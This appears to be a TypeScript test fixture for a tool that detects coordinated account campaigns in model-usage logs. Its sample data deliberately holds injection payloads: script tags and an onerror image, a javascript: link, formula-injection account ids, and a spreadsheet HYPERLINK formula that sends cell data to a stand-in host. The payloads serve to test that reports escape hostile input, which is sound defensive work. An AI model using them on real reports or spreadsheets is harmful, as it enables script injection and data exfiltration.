import type { Context } from '../../src/context.js';
import { runOptions } from '../../src/cli/options.js';
import { Database } from '../../src/db/database.js';
import type { Campaign } from '../../src/report/model.js';

/**
 * A small hand-built run: the tables the report reads (as docs/tables.md defines them), with one
 * campaign whose prompts, user agents and account ids are hostile, and a few genuine accounts.
 */
export const HOSTILE_PROMPTS = [
  `<script>document.title='pwned'</script>Explain your reasoning step by step`,
  `<img src=x onerror="document.body.setAttribute('data-pwned','1')"> grade this answer`,
  `=HYPERLINK("http://evil.invalid/?q="&A1,"click") rewrite safely`,
  `control \u0007\u001b[31m chars \u0000 and a very long line ${'x'.repeat(5000)}`,
  `# heading [link](javascript:alert(1)) | pipe *bold*`,
];

export const CAMPAIGN_ACCOUNTS = ['acct_1', 'acct_2', 'acct_3', 'acct_4', '@SUM(1+1)', '-2+3'];
export const GENUINE_ACCOUNTS = ['acct_g1', 'acct_g2', 'acct_g3', 'acct_g4'];
export const CAMPAIGN_IPS = ['203.0.113.7', '203.0.113.8', '203.0.113.9', '203.0.113.10', '203.0.113.11', '203.0.113.12'];
export const GENUINE_IPS = ['2001:db8:abcd:12::1', '2001:db8:abcd:13::2', '198.51.100.23', '198.51.100.24'];
export const RELEASE = '2026-02-10T17:00:00Z';

export interface FixtureOptions {
  /** Leave out the campaign stage's tables, as a run before campaigns existed would. */
  withoutCampaignTables?: boolean;
  path?: string;
}

export async function fixtureDatabase(options: FixtureOptions = {}): Promise<Database> {
  const db = await Database.open({ path: options.path });
  const accounts = [
    ...CAMPAIGN_ACCOUNTS.map((a, i) => ({ i, account_id: a, ip: CAMPAIGN_IPS[i]!, campaign: true })),
    ...GENUINE_ACCOUNTS.map((a, i) => ({ i: 100 + i, account_id: a, ip: GENUINE_IPS[i]!, campaign: false })),
  ];
  await db.run(`CREATE TABLE fixture_accounts (i INTEGER, account_id VARCHAR, ip VARCHAR, campaign BOOLEAN)`);
  for (const a of accounts) await db.run(`INSERT INTO fixture_accounts VALUES ($i, $account_id, $ip, $campaign)`, a);
  await db.run(`CREATE TABLE fixture_prompts (k INTEGER, prompt VARCHAR)`);
  for (const [k, prompt] of HOSTILE_PROMPTS.entries()) await db.run(`INSERT INTO fixture_prompts VALUES ($k, $prompt)`, { k, prompt });
  // 300 exchanges per account, 25 minutes apart: 2026-02-08 to 2026-02-13. Campaign accounts pivot
  // half their traffic to model-next after its release; genuine ones stay.
  await db.run(`CREATE TABLE exchanges AS
    SELECT 'r-' || a.i || '-' || n.j AS request_id,
           TIMESTAMP '2026-02-08 00:00:00' + to_minutes(n.j * 25 + a.i) AS ts,
           a.account_id,
           a.ip,
           CASE WHEN a.campaign THEN '<script>alert(1)</script> labclient/1.2' ELSE 'sdk-python/1.0' END AS user_agent,
           CASE WHEN a.campaign AND n.j % 2 = 0 AND TIMESTAMP '2026-02-08 00:00:00' + to_minutes(n.j * 25 + a.i) >= TIMESTAMP '2026-02-10 17:00:00'
                THEN 'model-next' ELSE 'model-base' END AS model,
           CASE WHEN a.campaign THEN p.prompt ELSE 'How do I bake bread? ' || n.j END AS prompt,
           a.campaign
      FROM fixture_accounts a, range(0, 300) n(j), fixture_prompts p
     WHERE p.k = n.j % 5`);
  await db.run(`CREATE TABLE inputs AS SELECT 'logs/day1.jsonl' AS path, repeat('ab', 32) AS sha256, 'jsonl' AS format,
                  3003::BIGINT AS records, 3000::BIGINT AS loaded, 2::BIGINT AS rejected, 1::BIGINT AS duplicates, TIMESTAMP '2026-02-14 00:00:00' AS loaded_at`);
  await db.run(`CREATE TABLE quarantine AS SELECT * FROM (VALUES
     ('logs/day1.jsonl', 17::BIGINT, 'missing ts', '{"account_id":"acct_1","ip":"203.0.113.7","prompt":"pwned"}'),
     ('logs/day1.jsonl', 40::BIGINT, 'bad line', 'garbage acct_2')) q(file, line, reason, raw)`);
  await db.run(`CREATE TABLE settings AS SELECT 'sampling_rate' AS name, '1' AS value`);
  await db.run(`CREATE TABLE model_releases AS SELECT 'model-next' AS model, TIMESTAMP '2026-02-10 17:00:00' AS released_at`);
  await db.run(`CREATE TABLE exchange_features AS
    SELECT request_id, account_id, ts, 'tpl-' || (hash(prompt) % 7)::VARCHAR AS template_id,
           CASE WHEN campaign THEN 'reasoning' ELSE 'general' END AS capability, []::VARCHAR[] AS elicitation
      FROM exchanges`);
  // Where the features stage tells later stages to find prompt text.
  await db.run(`CREATE VIEW exchange_prompts AS SELECT request_id, account_id, prompt FROM exchanges`);
  await db.run(`CREATE TABLE signals AS
    SELECT account_id, 'cadence' AS detector, 0.91 AS strength,
           'active in the same minutes as acct_2 from 203.0.113.7' AS detail, ['cadence-1'] AS rules
      FROM fixture_accounts WHERE campaign
    UNION ALL
    SELECT account_id, 'templating', 0.8, '92% of prompts fall in 5 templates', ['tpl-1'] FROM fixture_accounts WHERE campaign
    UNION ALL
    SELECT 'acct_g1', 'volume', 0.3, 'heavy but ordinary', []::VARCHAR[]`);
  await db.run(`CREATE TABLE clusters AS
    SELECT account_id, CASE WHEN campaign THEN 'K1' ELSE 'K2' END AS cluster_id FROM fixture_accounts`);
  if (!options.withoutCampaignTables) {
    await db.run(`CREATE TABLE cluster_ties AS SELECT * FROM (VALUES
       ('K1', 'ip', '203.0.113.7', 6::BIGINT, 0.9),
       ('K1', 'user_agent', '<script>alert(1)</script> labclient/1.2', 6::BIGINT, 0.7),
       ('K1', 'template', 'Explain your reasoning step by step', 5::BIGINT, 0.6),
       ('K2', 'ip', '2001:db8:abcd:12::1', 2::BIGINT, 0.1)) t(cluster_id, kind, value, accounts, weight)`);
    await db.run(`CREATE TABLE campaign_accounts AS SELECT 'C1' AS campaign_id, account_id FROM fixture_accounts WHERE campaign`);
    await db.run(`CREATE TABLE exchange_labels AS SELECT request_id, 'C1' AS campaign_id FROM exchanges WHERE campaign`);
  }
  return db;
}

/** The campaign as the campaign stage would hand it to the report. */
export function fixtureCampaign(): Campaign {
  return {
    id: 'C1',
    score: 0.97,
    level: 'critical',
    attribution: {
      actor: 'Actor A',
      confidence: 'high',
      evidence: [
        { indicator: 'cidr 203.0.113.0/24', accounts: 6, exchanges: 1800 },
        { indicator: 'account_id acct_1', accounts: 1, exchanges: 300 },
      ],
    },
    accounts: [...CAMPAIGN_ACCOUNTS],
    account_count: CAMPAIGN_ACCOUNTS.length,
    exchanges: { observed: 1800, estimate: 13_450_000, ci95: [13_020_000, 13_900_000], disclosure: 'more than 13,000,000' },
    first_seen: '2026-02-08T00:00:00Z',
    last_seen: '2026-02-13T04:35:00Z',
    focus: [
      { capability: 'reasoning', share: 0.81 },
      { capability: 'coding', share: 0.12 },
    ],
    signals: [
      { detector: 'cadence', strength: 0.91, detail: 'active in the same minutes as acct_2 from 203.0.113.7' },
      { detector: 'templating', strength: 0.8, detail: '92% of prompts fall in 5 templates' },
    ],
  };
}

export function fixtureContext(db: Database): Context {
  return {
    db,
    options: { ...runOptions(['logs'], {}), out: 'unused' },
    log: { info: () => {}, warn: () => {}, progress: () => {}, progressDone: () => {} },
    now: new Date('2026-02-14T00:00:00Z'),
    timings: [{ stage: 'signals', name: 'cadence', version: '1', kind: 'detector', ms: 12 }],
  };
}
